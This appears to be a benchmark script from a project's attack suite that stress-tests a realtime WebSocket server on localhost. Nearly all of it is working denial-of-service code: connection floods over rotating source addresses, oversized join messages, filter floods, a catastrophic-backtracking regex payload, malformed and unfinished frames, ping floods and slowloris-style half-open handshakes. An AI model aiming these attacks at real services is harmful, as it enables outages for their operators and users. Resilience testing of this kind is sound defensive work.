/** With the public key alone: `node bench/attacks/realtime.ts <way> <url> <key> <seconds> <networks>`. */
import { connect } from 'node:net'
import { setTimeout } from 'node:timers/promises'
import { WebSocket } from 'ws'

const [way = 'topics', url = '', key = '', seconds = '20', networks = '1'] = process.argv.slice(2)
const until = Date.now() + Number(seconds) * 1000
const ended = () => Date.now() > until
const { port } = new URL(url)
const path = `/realtime/v1/websocket?apikey=${key}&vsn=2.0.0`
let opened = 0
let refused = 0

const toAddress = (i: number) => {
  const network = i % Number(networks)
  return `127.1.${network >> 8}.${(network & 255) + 1}`
}

function open(i: number): Promise<WebSocket | null> {
  return new Promise(resolve => {
    const socket = new WebSocket(`ws://127.0.0.1:${port}${path}`, {
      localAddress: toAddress(i),
      perMessageDeflate: false,
      handshakeTimeout: 5_000,
    })
    socket.once('open', () => {
      opened += 1
      resolve(socket)
    })
    socket.on('error', () => {
      refused += 1
      resolve(null)
    })
  })
}

const join = (topic: string, bindings: object[], more: object = {}) =>
  JSON.stringify([
    '1',
    '1',
    `realtime:${topic}`,
    'phx_join',
    { config: { postgres_changes: bindings }, ...more },
  ])
const posts = (filter: string) => ({ event: '*', schema: 'public', table: 'posts', filter })
const word = (n: number) => n.toString(36).padStart(6, 'x')

let made = 0
const uniqueList = () => `excerpt=in.(${Array.from({ length: 100 }, () => word(made++))})`
const uniqueConditions = () => Array.from({ length: 50 }, () => `excerpt=neq.${word(made++)}`).join()

const ways: Record<string, (socket: WebSocket, round: number) => void> = {
  topics: (socket, round) => socket.send(join(`${round}${'t'.repeat(50_000)}`, [])),
  channels: (socket, round) => socket.send(join(`${word(made++)}${'t'.repeat(200)}${round}`, [posts('')])),
  filters: socket =>
    socket.send(
      join(
        word(made++),
        Array.from({ length: 10 }, () => posts(uniqueList())),
      ),
    ),
  conditions: socket =>
    socket.send(
      join(
        word(made++),
        Array.from({ length: 20 }, () => posts(uniqueConditions())),
      ),
    ),
  patterns: socket =>
    socket.send(
      join(word(made++), [
        posts('content=imatch.^(((a|b|[^x])*)+c)+$'),
        posts(`content=ilike.%${word(made++)}%x%y%`),
      ]),
    ),
  frames: socket => socket.send(`[null,"1","phoenix","heartbeat",{"a":[${'{},'.repeat(19_000)}1]}]`),
  unfinished: socket => socket.send('a'.repeat(30_000), { fin: false }),
  pings: socket => {
    for (let i = 0; i < 50; i += 1) socket.ping('p'.repeat(100))
  },
  unread: socket => {
    socket.pause()
    socket.send(join(word(made++) + 't'.repeat(200), [posts('')]))
  },
}

if (way === 'half-open') {
  await keepHalfOpen()
} else {
  await attack(ways[way] ?? (() => {}))
}
process.stdout.write(`${JSON.stringify({ way, opened, refused })}\n`)
process.exit()

async function attack(act: (socket: WebSocket, round: number) => void): Promise<void> {
  const sockets = new Set<WebSocket>()
  const keepOpening = async (start: number) => {
    for (let i = start; !ended(); i += 50) {
      const socket = sockets.size < 12_000 ? await open(i) : null
      if (socket) {
        sockets.add(socket)
        socket.on('close', () => sockets.delete(socket))
      } else {
        await setTimeout(20)
      }
    }
  }
  const openers = Array.from({ length: 50 }, (_, i) => keepOpening(i))
  for (let round = 0; !ended(); round += 1) {
    for (const socket of sockets) {
      if (socket.readyState === socket.OPEN && socket.bufferedAmount < 200_000) act(socket, round)
    }
    await setTimeout(50)
  }
  await Promise.all(openers)
}

/** Handshakes that never end, and refused ones that are never closed. */
async function keepHalfOpen(): Promise<void> {
  const heads = [
    `GET ${path} HTTP/1.1\r\nHost: a\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n`,
    `GET ${path}x HTTP/1.1\r\nHost: a\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\r\n`,
  ]
  let alive = 0
  for (let i = 0; !ended(); i += 1) {
    if (alive < 4_000) {
      const socket = connect({ port: Number(port), localAddress: toAddress(i), allowHalfOpen: true })
      alive += 1
      socket.on('error', () => {})
      socket.on('connect', () => {
        opened += 1
        socket.write(heads[i % 2] ?? '')
      })
      socket.on('close', () => {
        alive -= 1
        refused += 1
      })
    }
    if (i % 20 === 0) await setTimeout(5)
  }
}
